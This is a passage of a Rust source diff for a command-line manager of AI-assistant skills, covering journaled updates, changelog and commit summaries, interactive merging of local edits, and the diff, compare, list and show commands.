+/// in `keep_local`. The swap is journaled so a crash can be resumed or rolled back.
+/// A linked skill stays linked, to a new tree in the [`SharedStore`].
+fn install_update(
+    config: &Config,
+    paths: &AppPaths,
+    dest_dir: &Path,
+    fetched: &FetchedSkill,
+    keep_local: &BTreeSet<String>,
+) -> Result<()> {
+    let dest_root = dest_dir
+        .parent()
+        .ok_or_else(|| anyhow!("invalid skill path {}", dest_dir.display()))?;
+    let name = dest_dir
+        .file_name()
+        .map(|name| name.to_string_lossy().to_string())
+        .unwrap_or_default();
+    let staging_dir = dest_root.join(format!(".{name}.update"));
+    let backup_dir = dest_root.join(format!(".{name}.previous"));
+    for stale in [&staging_dir, &backup_dir] {
+        if fs::symlink_metadata(stale).is_ok() {
+            fs::remove_dir_all(stale)
+                .with_context(|| format!("failed to remove {}", stale.display()))?;
+        }
+    }
+    let fill = |staged: &Path| -> Result<()> {
+        copy_dir_filtered(&fetched.skill_dir, staged)?;
+        apply_assistant_overrides(staged, fetched.assistant)?;
+        for path in keep_local {
+            let local_file = dest_dir.join(path);
+            let staged_file = staged.join(path);
+            if staged_file.exists() {
+                fs::remove_file(&staged_file)
+                    .with_context(|| format!("failed to remove {}", staged_file.display()))?;
+            }
+            if local_file.exists() {
+                if let Some(parent) = staged_file.parent() {
+                    ensure_dir(parent)?;
+                }
+                copy_file_fast(&local_file, &staged_file)
+                    .with_context(|| format!("failed to copy {}", local_file.display()))?;
+            }
+        }
+        Ok(())
+    };
+    let previous_target = shared::linked_target(dest_dir);
+    match &previous_target {
+        Some(_) => link_dir(&SharedStore::new(paths).store(&name, fill)?, &staging_dir)?,
+        None => fill(&staging_dir)?,
+    }
+
+    Journal::begin(
+        paths,
+        "update",
+        vec![
+            JournalStep::MoveDir {
+                from: dest_dir.to_path_buf(),
+                to: backup_dir.clone(),
+            },
+            JournalStep::MoveDir {
+                from: staging_dir,
+                to: dest_dir.to_path_buf(),
+            },
+            JournalStep::RemoveDir { path: backup_dir },
+        ],
+    )?
+    .run()?;
+    if let Some(target) = previous_target {
+        release_shared(config, paths, &name, &target)?;
+    }
+    progress::emit(
+        "update_finished",
+        serde_json::json!({
+            "assistant": fetched.assistant,
+            "skill": name,
+            "path": dest_dir,
+            "provenance": fetched.digest,
+        }),
+    );
+    Ok(())
+}
+
+/// Deletes `target` from the [`SharedStore`] once no assistant's `name` links to it.
+fn release_shared(config: &Config, paths: &AppPaths, name: &str, target: &Path) -> Result<()> {
+    let links: Vec<PathBuf> = [Assistant::Codex, Assistant::ClaudeCode, Assistant::OpenCode]
+        .into_iter()
+        .map(|assistant| config.skills_root_for(paths, assistant).join(name))
+        .collect();
+    SharedStore::new(paths).release(target, &links)?;
+    Ok(())
+}
+
+/// Records the upstream hashes (not the merged tree) so kept local edits still show
+/// up as local changes on the next update.
+/// The frontmatter versions of the installed skill in `installed_dir` and of the one
+/// about to replace it from `incoming_dir`, when the incoming one is older.
+fn downgrade(
+    installed_dir: &Path,
+    incoming_dir: &Path,
+) -> Option<(semver::Version, semver::Version)> {
+    let installed = validation::read_frontmatter(installed_dir).ok()?.semver()?;
+    let incoming = validation::read_frontmatter(incoming_dir).ok()?.semver()?;
+    (incoming < installed).then_some((installed, incoming))
+}
+
+fn warn_downgrade(name: &str, installed_dir: &Path, incoming_dir: &Path) {
+    if let Some((installed, incoming)) = downgrade(installed_dir, incoming_dir) {
+        eprintln!("Warning: {name} {incoming} is older than the installed {installed}");
+    }
+}
+
+fn record_update(record: &mut InstallRecord, fetched: FetchedSkill) {
+    record.version = validation::read_frontmatter(&fetched.skill_dir)
+        .ok()
+        .and_then(|frontmatter| frontmatter.version());
+    record.files = fetched.files;
+    record.commit = fetched.commit;
+    record.source_digest = Some(fetched.digest);
+    record.resolved_url = fetched.resolved_url;
+    record.web_url = fetched.web_url;
+    record.updated_at = Some(Utc::now());
+}
+
+const CHANGELOG_FILE_NAME: &str = "CHANGELOG.md";
+const MAX_SUMMARY_LINES: usize = 20;
+
+struct UpdateSummary<'a> {
+    source_dir: &'a Path,
+    skill_dir: &'a Path,
+    installed_dir: &'a Path,
+    previous_commit: Option<&'a str>,
+    commit: Option<&'a str>,
+    changes: &'a FileChanges,
+}
+
+/// Prints what changed upstream (changelog entries or commit log, plus a file
+/// count) so the update prompt isn't blind.
+fn print_update_summary(summary: &UpdateSummary, git_timeout: Option<Duration>) {
+    println!("Upstream changes: {}", summary.changes.summary());
+
+    let changelog = [summary.skill_dir, summary.source_dir]
+        .iter()
+        .map(|dir| dir.join(CHANGELOG_FILE_NAME))
+        .find(|path| path.is_file());
+    if let Some(upstream) = changelog.and_then(|path| fs::read_to_string(path).ok()) {
+        let installed = fs::read_to_string(summary.installed_dir.join(CHANGELOG_FILE_NAME)).ok();
+        let lines = changelog_excerpt(&upstream, installed.as_deref());
+        if !lines.is_empty() {
+            println!("Changelog:");
+            for line in lines {
+                println!("  {line}");
+            }
+            return;
+        }
+    }
+
+    if let (Some(previous), Some(commit)) = (summary.previous_commit, summary.commit)
+        && previous != commit
+    {
+        match git_log_between(summary.source_dir, previous, commit, git_timeout) {
+            Some(lines) if !lines.is_empty() => {
+                println!("Commits since {}:", &previous[..previous.len().min(12)]);
+                for line in lines.iter().take(MAX_SUMMARY_LINES) {
+                    println!("  {line}");
+                }
+                if lines.len() > MAX_SUMMARY_LINES {
+                    println!("  ... and {} more", lines.len() - MAX_SUMMARY_LINES);
+                }
+            }
+            _ => println!("Commit history since {previous} is not available"),
+        }
+    }
+}
+
+/// New changelog lines since the installed copy, or the latest section when the
+/// installed skill has no changelog to compare against.
+fn changelog_excerpt(upstream: &str, installed: Option<&str>) -> Vec<String> {
+    let lines: Vec<String> = match installed {
+        Some(installed) => TextDiff::from_lines(installed, upstream)
+            .iter_all_changes()
+            .filter(|change| change.tag() == ChangeTag::Insert)
+            .map(|change| change.value().trim_end().to_string())
+            .collect(),
+        None => {
+            let mut headings = 0;
+            upstream
+                .lines()
+                .take_while(|line| {
+                    if line.starts_with("## ") {
+                        headings += 1;
+                    }
+                    headings < 2
+                })
+                .map(str::to_string)
+                .collect()
+        }
+    };
+
+    let mut lines: Vec<String> = lines
+        .into_iter()
+        .skip_while(|line| line.trim().is_empty() || line.starts_with("# "))
+        .collect();
+    while lines.last().is_some_and(|line| line.trim().is_empty()) {
+        lines.pop();
+    }
+    if lines.len() > MAX_SUMMARY_LINES {
+        let more = lines.len() - MAX_SUMMARY_LINES;
+        lines.truncate(MAX_SUMMARY_LINES);
+        lines.push(format!("... and {more} more line(s)"));
+    }
+    lines
+}
+
+fn git_head(repo: &Path) -> Option<String> {
+    let output = Command::new("git")
+        .arg("-C")
+        .arg(repo)
+        .args(["rev-parse", "HEAD"])
+        .stderr(Stdio::null())
+        .output()
+        .ok()?;
+    output
+        .status
+        .success()
+        .then(|| String::from_utf8_lossy(&output.stdout).trim().to_string())
+}
+
+/// One-line log of `from..to`, deepening a shallow clone when `from` is missing.
+fn git_log_between(
+    repo: &Path,
+    from: &str,
+    to: &str,
+    timeout: Option<Duration>,
+) -> Option<Vec<String>> {
+    let has_commit = || {
+        Command::new("git")
+            .arg("-C")
+            .arg(repo)
+            .args(["cat-file", "-e", &format!("{from}^{{commit}}")])
+            .stderr(Stdio::null())
+            .status()
+            .is_ok_and(|status| status.success())
+    };
+    if !has_commit() {
+        status_with_timeout(
+            Command::new("git")
+                .arg("-C")
+                .arg(repo)
+                .args(["fetch", "--quiet", "--deepen", "200"])
+                .stderr(Stdio::null()),
+            timeout,
+        )
+        .ok()??;
+        if !has_commit() {
+            return None;
+        }
+    }
+
+    let output = Command::new("git")
+        .arg("-C")
+        .arg(repo)
+        .args([
+            "log",
+            "--oneline",
+            "--no-decorate",
+            &format!("{from}..{to}"),
+        ])
+        .output()
+        .ok()?;
+    output.status.success().then(|| {
+        String::from_utf8_lossy(&output.stdout)
+            .lines()
+            .map(str::to_string)
+            .collect()
+    })
+}
+
+struct MergeInputs<'a> {
+    local_dir: &'a Path,
+    upstream_dir: &'a Path,
+    base: &'a BTreeMap<String, String>,
+    local: &'a BTreeMap<String, String>,
+    upstream: &'a BTreeMap<String, String>,
+}
+
+/// Shows how local edits differ from upstream and asks how to reconcile them.
+/// Returns the files whose local version should be kept, or `None` to keep the
+/// local skill untouched.
+fn choose_merge(merge: &MergeInputs) -> Result<Option<BTreeSet<String>>> {
+    let local_changes = manifest::changes(merge.base, merge.local);
+    let upstream_changes = manifest::changes(merge.base, merge.upstream);
+    println!("Local modifications since install:");
+    for path in local_changes.paths() {
+        print_file_diff(merge, path);
+    }
+
+    let choice = prompt_choice("Keep local (k), take upstream (t), or merge per file (m)? [k]")?;
+    match choice.as_str() {
+        "t" | "take" | "upstream" => Ok(Some(BTreeSet::new())),
+        "m" | "merge" => {
+            let conflicts = conflicting_paths(
+                &local_changes,
+                &upstream_changes,
+                merge.local,
+                merge.upstream,
+            );
+            let mut keep_local: BTreeSet<String> = local_changes
+                .paths()
+                .into_iter()
+                .filter(|path| !conflicts.contains(path))
+                .map(str::to_string)
+                .collect();
+            for path in conflicts {
+                let answer = prompt_choice(&format!(
+                    "{path} changed locally and upstream. Keep local (k) or take upstream (t)? [k]"
+                ))?;
+                if !matches!(answer.as_str(), "t" | "take" | "upstream") {
+                    keep_local.insert(path.to_string());
+                }
+            }
+            Ok(Some(keep_local))
+        }
+        _ => Ok(None),
+    }
+}
+
+/// Files changed on both sides since install that did not end up identical.
+fn conflicting_paths<'a>(
+    local_changes: &'a FileChanges,
+    upstream_changes: &FileChanges,
+    local: &BTreeMap<String, String>,
+    upstream: &BTreeMap<String, String>,
+) -> Vec<&'a str> {
+    let upstream_paths = upstream_changes.paths();
+    local_changes
+        .paths()
+        .into_iter()
+        .filter(|path| upstream_paths.contains(path) && local.get(*path) != upstream.get(*path))
+        .collect()
+}
+
+fn print_file_diff(merge: &MergeInputs, path: &str) {
+    let read = |dir: &Path, hashes: &BTreeMap<String, String>| {
+        if hashes.contains_key(path) {
+            fs::read_to_string(dir.join(path)).ok()
+        } else {
+            Some(String::new())
+        }
+    };
+    let (Some(local), Some(upstream)) = (
+        read(merge.local_dir, merge.local),
+        read(merge.upstream_dir, merge.upstream),
+    ) else {
+        println!("Binary file {path} differs");
+        return;
+    };
+    let diff = TextDiff::from_lines(&upstream, &local);
+    print!(
+        "{}",
+        diff.unified_diff()
+            .header(&format!("upstream/{path}"), &format!("local/{path}"))
+    );
+}
+
+/// Prints the differences between an installed skill and its source, another source, or
+/// another assistant's copy, as unified diffs from the installed files to the other side.
+pub fn cmd_diff(cmd: &DiffCommand, config: &Config, paths: &AppPaths) -> Result<()> {
+    let assistant = resolve_single_assistant(&cmd.assistant, config, "diff")?;
+    let installed_dir = config.skills_root_for(paths, assistant).join(&cmd.name);
+    if !installed_dir.join("SKILL.md").is_file() {
+        return Err(anyhow!("skill not found at {}", installed_dir.display()));
+    }
+
+    let staging = downloads::temp_dir()?;
+    let (label, other_dir) = if let Some(other) = cmd.against {
+        if other == assistant {
+            return Err(anyhow!(
+                "--against must name another assistant than {assistant}"
+            ));
+        }
+        let other_dir = config.skills_root_for(paths, other).join(&cmd.name);
+        if !other_dir.join("SKILL.md").is_file() {
+            return Err(anyhow!("skill not found at {}", other_dir.display()));
+        }
+        (other.to_string(), other_dir)
+    } else {
+        let staged = match &cmd.source {
+            Some(source) => stage_candidate(
+                config,
+                paths,
+                assistant,
+                (&cmd.name, staging.path()),
+                source,
+                cmd.skill.as_deref(),
+            )?,
+            None => {
+                let manifest = InstallManifest::load(paths)?;
+                let record = manifest.get(assistant, &cmd.name).ok_or_else(|| {
+                    anyhow!(
+                        "{} has no install record for {assistant}; pass a source to compare with",
+                        cmd.name
+                    )
+                })?;
+                let options = source_options(config, paths, false, None)?;
+                let fetched = fetch_recorded_source(record, &options, assistant)?;
+                let staged = staging.path().join(&cmd.name);
+                copy_dir_filtered(&fetched.skill_dir, &staged)?;
+                apply_assistant_overrides(&staged, assistant)?;
+                staged
+            }
+        };
+        ("source".to_string(), staged)
+    };
+
+    let changes = manifest::changes(
+        &manifest::hash_dir(&installed_dir)?,
+        &manifest::hash_dir(&other_dir)?,
+    );
+    if changes.is_empty() {
+        println!("{} in {assistant} is identical to {label}", cmd.name);
+        return Ok(());
+    }
+    let old_label = assistant.to_string();
+    for path in changes.paths() {
+        print_tree_diff(path, (&old_label, &installed_dir), (&label, &other_dir));
+    }
+    Ok(())
+}
+
+/// Copies skill `name` from `source` into `staging` as installing it for `assistant`
+/// would write it, overrides included, so it can be compared with the installed copy.
+fn stage_candidate(
+    config: &Config,
+    paths: &AppPaths,
+    assistant: Assistant,
+    (name, staging): (&str, &Path),
+    source: &str,
+    skill: Option<&str>,
+) -> Result<PathBuf> {
+    let options = source_options(config, paths, false, None)?;
+    let prepared = prepare_source(source, &options)?;
+    let skill_dir = select_skill_dir(&prepared.dir, skill)?;
+    let staged = staging.join(name);
+    copy_dir_filtered(&skill_dir, &staged)?;
+    apply_assistant_overrides(&staged, assistant)?;
+    Ok(staged)
+}
+
+/// What replacing an installed skill with a candidate would change.
+#[derive(Debug)]
+struct SkillComparison {
+    changes: FileChanges,
+    /// Frontmatter keys whose values differ: installed value, then candidate value.
+    fields: Vec<(String, Option<serde_json::Value>, Option<serde_json::Value>)>,
+    installed_findings: usize,
+    candidate_findings: usize,
+    /// Candidate findings of a rule on a file the installed copy doesn't trigger it
+    /// on, with paths relative to the skill.
+    new_findings: Vec<scan::ScanIssue>,
+}
+
+fn compare_skill_dirs(
+    installed: &Path,
+    candidate: &Path,
+    config: &Config,
+) -> Result<SkillComparison> {
+    let changes = manifest::changes(
+        &manifest::hash_dir(installed)?,
+        &manifest::hash_dir(candidate)?,
+    );
+
+    let frontmatter = |dir: &Path| -> Result<BTreeMap<String, serde_json::Value>> {
+        let value = serde_json::to_value(validation::read_frontmatter(dir)?)?;
+        Ok(serde_json::from_value(value).unwrap_or_default())
+    };
+    let (mut installed_fields, mut candidate_fields) =
+        (frontmatter(installed)?, frontmatter(candidate)?);
+    let keys: BTreeSet<String> = installed_fields
+        .keys()
+        .chain(candidate_fields.keys())
+        .cloned()
+        .collect();
+    let fields = keys
+        .into_iter()
+        .map(|key| {
+            let (old, new) = (installed_fields.remove(&key), candidate_fields.remove(&key));
+            (key, old, new)
+        })
+        .filter(|(_, old, new)| old != new)
+        .collect();
+
+    let scan_options = scan::ScanOptions {
+        timeouts: config.tool_timeouts()?,
+        ..Default::default()
+    };
+    let findings = |dir: &Path| -> Result<Vec<scan::ScanIssue>> {
+        let mut issues = scan::scan_path(dir, &scan_options)?.issues;
+        for issue in &mut issues {
+            issue.path = issue
+                .path
+                .as_deref()
+                .and_then(|path| path.strip_prefix(dir).ok())
+                .map(Path::to_path_buf);
+        }
+        Ok(issues)
+    };
+    let installed_findings = findings(installed)?;
+    let candidate_findings = findings(candidate)?;
+    let candidate_count = candidate_findings.len();
+    let new_findings = candidate_findings
+        .into_iter()
+        .filter(|issue| {
+            !installed_findings
+                .iter()
+                .any(|known| known.rule == issue.rule && known.path == issue.path)
+        })
+        .collect();
+    Ok(SkillComparison {
+        changes,
+        fields,
+        installed_findings: installed_findings.len(),
+        candidate_findings: candidate_count,
+        new_findings,
+    })
+}
+
+pub fn cmd_compare(cmd: &CompareCommand, config: &Config, paths: &AppPaths) -> Result<()> {
+    let assistant = resolve_single_assistant(&cmd.assistant, config, "compare")?;
+    let installed_dir = config.skills_root_for(paths, assistant).join(&cmd.name);
+    if !installed_dir.join("SKILL.md").is_file() {
+        return Err(anyhow!("skill not found at {}", installed_dir.display()));
+    }
+    let staging = downloads::temp_dir()?;
+    let candidate_dir = stage_candidate(
+        config,
+        paths,
+        assistant,
+        (&cmd.name, staging.path()),
+        &cmd.source,
+        cmd.skill.as_deref(),
+    )?;
+    let comparison = compare_skill_dirs(&installed_dir, &candidate_dir, config)?;
+    let changes = &comparison.changes;
+    let size = |dir: &Path, path: &str| fs::metadata(dir.join(path)).ok().map(|meta| meta.len());
+    let files: Vec<(&str, &String)> = changes
+        .added
+        .iter()
+        .map(|path| ("added", path))
+        .chain(changes.modified.iter().map(|path| ("modified", path)))
+        .chain(changes.removed.iter().map(|path| ("removed", path)))
+        .collect();
+
+    if output::json() {
+        return output::print_json(&serde_json::json!({
+            "assistant": assistant,
+            "name": cmd.name,
+            "source": cmd.source,
+            "identical": changes.is_empty(),
+            "files": files
+                .iter()
+                .map(|(change, path)| serde_json::json!({
+                    "path": path,
+                    "change": change,
+                    "installed_bytes": size(&installed_dir, path),
+                    "source_bytes": size(&candidate_dir, path),
+                }))
+                .collect::<Vec<_>>(),
+            "frontmatter": comparison
+                .fields
+                .iter()
+                .map(|(field, installed, candidate)| serde_json::json!({
+                    "field": field,
+                    "installed": installed,
+                    "source": candidate,
+                }))
+                .collect::<Vec<_>>(),
+            "findings": {
+                "installed": comparison.installed_findings,
+                "source": comparison.candidate_findings,
+                "new": comparison
+                    .new_findings
+                    .iter()
+                    .map(|issue| serde_json::json!({
+                        "rule": issue.rule,
+                        "severity": issue.severity.as_str(),
+                        "message": issue.message,
+                        "path": issue.path,
+                    }))
+                    .collect::<Vec<_>>(),
+            },
+        }));
+    }
+
+    if changes.is_empty() {
+        println!("{assistant}/{} is identical to {}", cmd.name, cmd.source);
+        return Ok(());
+    }
+    println!("Comparing {assistant}/{} with {}", cmd.name, cmd.source);
+    println!(
+        "Files: {} added, {} modified, {} removed",
+        changes.added.len(),
+        changes.modified.len(),
+        changes.removed.len()
+    );
+    let show_size =
+        |size: Option<u64>| size.map_or_else(|| "-".to_string(), |size| ByteSize(size).to_string());
+    for (change, path) in &files {
+        let (installed, candidate) = (size(&installed_dir, path), size(&candidate_dir, path));
+        let detail = match *change {
+            "added" => show_size(candidate),
+            "removed" => show_size(installed),
+            _ => format!("{} -> {}", show_size(installed), show_size(candidate)),
+        };
+        println!("  {} {path} ({detail})", change[..1].to_uppercase());
+    }
+    if !comparison.fields.is_empty() {
+        println!("Frontmatter:");
+        let show = |value: &Option<serde_json::Value>| match value {
+            Some(serde_json::Value::String(text)) => text.clone(),
+            Some(value) => value.to_string(),
+            None => "(unset)".to_string(),
+        };
+        for (field, installed, candidate) in &comparison.fields {
+            println!("  {field}: {} -> {}", show(installed), show(candidate));
+        }
+    }
+    println!(
+        "Scan: {} finding(s) installed, {} in the source, {} new",
+        comparison.installed_findings,
+        comparison.candidate_findings,
+        comparison.new_findings.len()
+    );
+    for issue in &comparison.new_findings {
+        println!("  {issue}");
+    }
+    if !cmd.stat {
+        println!();
+        let old_label = assistant.to_string();
+        for path in changes.paths() {
+            print_tree_diff(
+                path,
+                (&old_label, &installed_dir),
+                ("source", &candidate_dir),
+            );
+        }
+    }
+    Ok(())
+}
+
+/// Prints `path` as a unified diff between two skill directories, each given with the
+/// label used in the headers. A side without the file is shown as `/dev/null`.
+fn print_tree_diff(path: &str, old: (&str, &Path), new: (&str, &Path)) {
+    let read = |dir: &Path| {
+        let file = dir.join(path);
+        if file.is_file() {
+            fs::read_to_string(file).ok().map(Some)
+        } else {
+            Some(None)
+        }
+    };
+    let (Some(old_text), Some(new_text)) = (read(old.1), read(new.1)) else {
+        println!("Binary file {path} differs");
+        return;
+    };
+    let header = |label: &str, text: &Option<String>| match text {
+        Some(_) => format!("{label}/{path}"),
+        None => "/dev/null".to_string(),
+    };
+    let (old_header, new_header) = (header(old.0, &old_text), header(new.0, &new_text));
+    let (old_text, new_text) = (old_text.unwrap_or_default(), new_text.unwrap_or_default());
+    let diff = TextDiff::from_lines(&old_text, &new_text);
+    print!("{}", diff.unified_diff().header(&old_header, &new_header));
+}
+
+pub fn cmd_list(cmd: &ListCommand, config: &Config, paths: &AppPaths) -> Result<()> {
+    let assistants = resolve_list_assistants(&cmd.assistant, config, "list");
+    if cmd.snapshot == Some(SnapshotAction::Save) {
+        let inventory = Inventory::take(config, paths, &assistants)?;
+        let path = inventory.save(paths)?;
+        if output::json() {
+            return output::print_json(&serde_json::json!({
+                "snapshot": path,
+                "skills": inventory.skills.len(),
+            }));
+        }
+        println!(
+            "Saved snapshot of {} skill(s) to {}",
+            inventory.skills.len(),
+            path.display()
+        );
+        return Ok(());
+    }
+    if let Some(snapshot) = &cmd.diff {
+        let mut before = Inventory::load(&snapshot::resolve(paths, snapshot)?)?;
+        // Compare only the assistants being listed, whatever the snapshot covered.
+        before.skills.retain(|key, _| {
+            assistants
+                .iter()
+                .any(|assistant| key.starts_with(&format!("{assistant}/")))
+        });
+        let diff = before.diff(&Inventory::take(config, paths, &assistants)?);
+        println!("{}", serde_json::to_string_pretty(&diff)?);
+        return Ok(());
+    }
+    let template = cmd
+        .format
+        .as_deref()
+        .map(|spec| template::resolve(spec, &config.templates))
+        .transpose()?;
+    let manifest = InstallManifest::load(paths)?;
+    let mut listed = Vec::new();
+    // A bare `--category` is shorthand for `--group-by category`.
+    let group_by = cmd
+        .group_by
+        .or(matches!(cmd.category, Some(None)).then_some(GroupBy::Category));
+
+    for assistant in &assistants {
+        let mut skills: Vec<ListRow> = Vec::new();
+        let mut listed_here = Vec::new();
+        let mut seen = BTreeSet::new();
+
+        for root in config.read_roots_for(paths, *assistant) {
+            if !root.path.exists() {
+                continue;
+            }
+            for entry in fs::read_dir(&root.path)
+                .with_context(|| format!("failed to read {}", root.path.display()))?
+            {
+                let entry = entry?;
+                // `is_dir` follows links, so skills installed with --link are listed.
+                if entry.path().is_dir() {
+                    let skill_dir = entry.path();
+                    if skill_dir.join("SKILL.md").exists()
+                        && let Some(name) = skill_dir.file_name().and_then(|n| n.to_str())
+                        && seen.insert(name.to_string())
+                    {
+                        let frontmatter = validation::read_frontmatter(&skill_dir).ok();
+                        if let Some(author) = cmd.author.as_deref()
+                            && !frontmatter
+                                .as_ref()
+                                .is_some_and(|frontmatter| frontmatter.author_matches(author))
+                        {
+                            continue;
+                        }
+                        let version = frontmatter
+                            .as_ref()
+                            .and_then(|frontmatter| frontmatter.version());
+                        let tags = frontmatter
+                            .as_ref()
+                            .map(|frontmatter| frontmatter.tags())
+                            .unwrap_or_default();
+                        let category = frontmatter.and_then(|frontmatter| frontmatter.category);
+                        if let Some(Some(wanted)) = &cmd.category
+                            && !category
+                                .as_deref()
+                                .is_some_and(|category| category.eq_ignore_ascii_case(wanted))
+                        {
+                            continue;
+                        }
+                        let record = (root.scope == RootScope::Personal)
+                            .then(|| manifest.get(*assistant, name))
+                            .flatten();
+                        let linked = shared::linked_target(&skill_dir).is_some();
+                        if output::json() || template.is_some() {
+                            listed_here.push(ListedSkill {
+                                assistant: *assistant,
+                                name: name.to_string(),
+                                scope: root.scope.to_string(),
+                                linked,
+                                version,
+                                category,
+                                path: skill_dir.clone(),
+                                installed_at: record.map(|record| record.installed_at),
+                                source: record.map(|record| record.source.clone()),
+                                source_digest: record
+                                    .and_then(|record| record.source_digest.clone()),
+                            });
+                            continue;
+                        }
+                        if output::porcelain() {
+                            // assistant, name, scope, category
+                            // --long adds: installed at, source, source digest
+                            let mut fields = vec![
+                                assistant.as_str().to_string(),
+                                name.to_string(),
+                                root.scope.to_string(),
+                                category.unwrap_or_default(),
+                            ];
+                            if cmd.long {
+                                fields.push(
+                                    record
+                                        .map(|record| {
+                                            record
+                                                .installed_at
+                                                .to_rfc3339_opts(SecondsFormat::Secs, true)
+                                        })
+                                        .unwrap_or_default(),
+                                );
+                                fields.push(
+                                    record
+                                        .map(|record| record.source.clone())
+                                        .unwrap_or_default(),
+                                );
+                                fields.push(
+                                    record
+                                        .and_then(|record| record.source_digest.clone())
+                                        .unwrap_or_default(),
+                                );
+                            }
+                            let fields: Vec<&str> = fields.iter().map(String::as_str).collect();
+                            output::record(&fields);
+                            continue;
+                        }
+                        let versioned = match &version {
+                            Some(version) => format!("{name} {version}"),
+                            None => name.to_string(),
+                        };
+                        let label = match root.scope {
+                            RootScope::System => format!("{versioned} (system)"),
+                            _ if linked => format!("{versioned} (linked)"),
+                            _ => versioned,
+                        };
+                        let details = if cmd.long {
+                            install_details(record)
+                        } else {
+                            String::new()
+                        };
+                        skills.push(ListRow {
+                            name: name.to_string(),
+                            label,
+                            category,
+                            tags,
+                            size: if group_by.is_some() {
+                                skill_size(&skill_dir)?
+                            } else {
+                                0
+                            },
+                            details,
+                        });
+                    }
+                }
+            }
+        }
+
+        if output::json() || template.is_some() {
+            listed_here.sort_by(|a, b| a.name.cmp(&b.name));
+            listed.append(&mut listed_here);
+            continue;
+        }
+        if output::porcelain() {
+            continue;
+        }
+        skills.sort_by(|a, b| a.label.cmp(&b.label));
+        if assistants.len() > 1 {
+            println!("{assistant}:");
+        }
+
+        let width = skills.iter().map(|row| row.label.len()).max().unwrap_or(0);
+        let line = |label: &str, details: &str| {
+            if details.is_empty() {
+                label.to_string()
+            } else {
+                format!("{label:<width$}  {details}")
+            }
+        };
+        if skills.is_empty() {
+            println!("(no skills found)");
+        } else if let Some(group_by) = group_by {
+            for (group, rows) in group_rows(&skills, group_by) {
+                let size: u64 = rows.iter().map(|row| row.size).sum();
+                println!("{group} ({} skill(s), {}):", rows.len(), ByteSize(size));
+                for row in rows {
+                    println!("  {}", line(&row.label, &row.details));
+                }
+            }
+        } else {
+            for row in &skills {
+                println!("{}", line(&row.label, &row.details));
+            }
+        }
+
+        if assistants.len() > 1 {
+            println!();
+        }
+    }
+
+    if let Some(template) = &template {
+        for skill in &listed {
+            println!("{}", template.render(&serde_json::to_value(skill)?)?);
+        }
+    } else if output::json() {
+        output::print_json(&listed)?;
+    }
+    Ok(())
+}
+
+/// One skill in human-readable `list` output.
+struct ListRow {
+    name: String,
+    /// Name, version, and scope markers as printed.
+    label: String,
+    category: Option<String>,
+    tags: Vec<String>,
+    /// Bytes on disk, only measured for `--group-by`.
+    size: u64,
+    /// Install details shown by `--long`.
+    details: String,
+}
+
+/// Sections for `list --group-by`, sorted by key. A skill with several tags appears
+/// under each of them.
+fn group_rows(rows: &[ListRow], group_by: GroupBy) -> BTreeMap<String, Vec<&ListRow>> {
+    let mut groups: BTreeMap<String, Vec<&ListRow>> = BTreeMap::new();
+    for row in rows {
+        let keys: BTreeSet<String> = match group_by {
+            GroupBy::Namespace => row
+                .name
+                .split_once('-')
+                .map(|(namespace, _)| namespace.to_string())
+                .into_iter()
+                .collect(),
+            GroupBy::Category => row
+                .category
+                .iter()
+                .map(|category| category.to_ascii_lowercase())
+                .collect(),
+            GroupBy::Tag => row.tags.iter().map(|tag| tag.to_lowercase()).collect(),
+        };
+        if keys.is_empty() {
+            groups
+                .entry(group_by.fallback().to_string())
+                .or_default()
+                .push(row);
+        }
+        for key in keys {
+            groups.entry(key).or_default().push(row);
+        }
+    }
+    groups
+}
+
+/// One skill in `list --json`; the install fields are null without an install record.
+#[derive(Debug, serde::Serialize)]
+struct ListedSkill {
+    assistant: Assistant,
+    name: String,
+    scope: String,
+    linked: bool,
+    version: Option<String>,
+    category: Option<String>,
+    path: PathBuf,
+    installed_at: Option<DateTime<Utc>>,
+    source: Option<String>,
+    source_digest: Option<String>,
+}
+
+/// Install date, source digest, and source for `list --long`.
+fn install_details(record: Option<&InstallRecord>) -> String {
+    match record {
+        Some(record) => format!(
+            "installed {}  {}  {}",
+            record.installed_at.format("%Y-%m-%d"),
+            record
+                .source_digest
+                .as_deref()
+                .map(short_digest)
+                .unwrap_or("-"),
+            record.source
+        ),
+        None => "(no install record)".to_string(),
+    }
+}
+
+/// `sha256:<hex>` shortened to its algorithm and first 12 hex digits.
+fn short_digest(digest: &str) -> &str {
+    let hex_start = digest.find(':').map_or(0, |colon| colon + 1);
+    &digest[..digest.len().min(hex_start + 12)]
+}
+
+pub fn cmd_show(cmd: &ShowCommand, config: &Config, paths: &AppPaths) -> Result<()> {
+    let assistants = resolve_show_assistants(&cmd.assistant, config);
+    let template = cmd
+        .format
+        .as_deref()
+        .map(|spec| template::resolve(spec, &config.templates))
+        .transpose()?;
+    let manifest = InstallManifest::load(paths)?;
+    let mut found = false;
+    let mut shown = Vec::new();
+
+    for assistant in assistants {
+        let Some(root) = config
+            .read_roots_for(paths, assistant)
+            .into_iter()
+            .find(|root| root.path.join(&cmd.name).exists())
+        else {
+            continue;
+        };
+        let skill_dir = root.path.join(&cmd.name);
+
+        let variants = validation::localized_variants(&skill_dir)?;
+        let variant = match cmd.lang.as_deref() {
+            Some(lang) => {
+                let variant = variants.iter().find(|(tag, _)| tag == lang);
+                if variant.is_none() {
+                    eprintln!(
+                        "Warning: no SKILL.{lang}.md for {} in {assistant}. Showing SKILL.md.",
+                        cmd.name
+                    );
+                }
+                variant
+            }
+            None => None,
+        };
+        let skill_md = match variant {
+            Some((_, variant_path)) => variant_path.clone(),
+            None => skill_dir.join("SKILL.md"),
+        };
+        let frontmatter = validation::read_frontmatter_file(&skill_md)?;
+        let install_record = (root.scope == RootScope::Personal)
+            .then(|| manifest.get(assistant, &cmd.name))
+            .flatten();
+        found = true;
+        if output::json() || template.is_some() {
+            let mut value = serde_json::json!({
+                "assistant": assistant,
+                "path": skill_dir,
+                "linked_to": shared::linked_target(&skill_dir),
+                "scope": root.scope.to_string(),
+                "protected": root.scope == RootScope::Personal
+                    && manifest.is_protected(assistant, &cmd.name),
+                "pinned": root.scope == RootScope::Personal
+                    && manifest.is_pinned(assistant, &cmd.name),
+                "language": variant.map(|(lang, _)| lang),
+                "version": frontmatter.version(),
+                "frontmatter": frontmatter,
+            });
+            if let Some(record) = install_record {
+                value["install"] = serde_json::json!({
+                    "source": record.source,
+                    "skill": record.skill,
+                    "commit": record.commit,
+                    "installed_at": record.installed_at,
+                    "updated_at": record.updated_at,
+                    "source_digest": record.source_digest,
+                    "resolved_url": record.resolved_url,
+                    "web_url": record.web_url,
+                    "version": record.version,
+                });
+            } else if template.is_some() {
